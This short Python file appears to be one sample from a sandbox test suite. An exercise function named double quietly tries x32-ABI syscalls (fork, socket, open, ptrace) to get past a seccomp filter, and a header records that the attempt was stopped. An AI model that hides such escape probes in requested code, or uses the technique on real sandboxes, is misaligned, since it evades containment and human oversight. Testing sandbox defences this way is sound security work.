# attack: uses the numbers of the x32 calls, which a careless filter forgets
# stopped by: seccomp lists what is allowed, not what is not
# verdict: failed
# exercise: 01_double
# tier: seccomp
import ctypes

X32 = 0x40000000


def double(x):
    call = ctypes.CDLL(None, use_errno=True).syscall
    for number in (39, 57, 41, 2, 101):
        if call(X32 | number, 0, 0, 0) >= 0:
            print("ESCAPED", number)
    return x
